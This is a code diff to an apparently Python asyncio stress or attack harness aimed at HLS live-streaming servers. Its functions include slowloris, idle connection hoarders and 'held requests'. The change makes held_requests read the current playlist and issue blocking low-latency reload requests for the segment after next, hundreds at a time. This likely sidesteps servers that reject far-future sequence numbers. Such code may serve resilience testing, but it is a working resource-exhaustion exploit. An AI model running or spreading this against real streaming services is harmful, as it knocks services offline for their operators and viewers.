@@ -252,7 +252,7 @@ async def idle_hoarders(target: Target, sources: SourceAddresses, count: int = 2
                 close(writer)
             except (OSError, TimeoutError):
                 target.counts["idle_hoarder.refused"] += 1
-            await asyncio.sleep(0.2)
+            await asyncio.sleep(1.0)  # it wants to hold slots, not to churn them
     await asyncio.gather(*(hold(i) for i in range(count)))
 
 
@@ -342,25 +342,40 @@ async def slowloris(target: Target, sources: SourceAddresses, count: int = 100) 
 
 
 async def held_requests(target: Target, sources: SourceAddresses, count: int = 200) -> None:
-    """Item 7: blocking playlist reloads for a media sequence far in the future, held by the
-    hundred on one live stream."""
+    """Item 7: blocking playlist reloads for the segment after next, held by the hundred on
+    one live stream (each waits until that segment exists, or for its hold timeout)."""
     if target.playback_id is None:
         return
-    path = f"/{target.playback_id}/rendition.m3u8?_HLS_msn=999999999&_HLS_part=0"
+    path = f"/{target.playback_id}/rendition.m3u8"
 
     async def hold() -> None:
         source = sources.take()
         while target.live():
             try:
-                reader, writer = await open_from(*target.http_address, source)
-                writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
-                status = await asyncio.wait_for(reader.readline(), 30)
-                target.counts[f"held.{status[9:12].decode(errors='replace') or 'eof'}"] += 1
-                close(writer)
-            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                playlist = await _http(target, source, (
+                    f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").encode())
+                ahead = _last_msn(playlist) + 2
+                answer = await _http(target, source, (
+                    f"GET {path}?_HLS_msn={ahead}&_HLS_part=0 HTTP/1.1\r\nHost: x\r\n"
+                    "Connection: close\r\n\r\n").encode())
+                target.counts[f"held.{answer[9:12].decode(errors='replace') or 'eof'}"] += 1
+            except (OSError, TimeoutError, ValueError):
                 target.counts["held.refused"] += 1
             await asyncio.sleep(0.1)
     await asyncio.gather(*(hold() for _ in range(count)))
+
+
+def _last_msn(response: bytes) -> int:
+    """The last listed media sequence number of a media playlist response."""
+    sequence, segments = None, 0
+    for line in response.decode(errors="replace").splitlines():
+        if line.startswith("#EXT-X-MEDIA-SEQUENCE:"):
+            sequence = int(line.split(":", 1)[1])
+        elif line.startswith("#EXTINF:"):
+            segments += 1
+    if sequence is None:
+        raise ValueError("not a media playlist")
+    return sequence + segments - 1
 
 
 async def _http(target: Target, source: str, request: bytes) -> bytes:
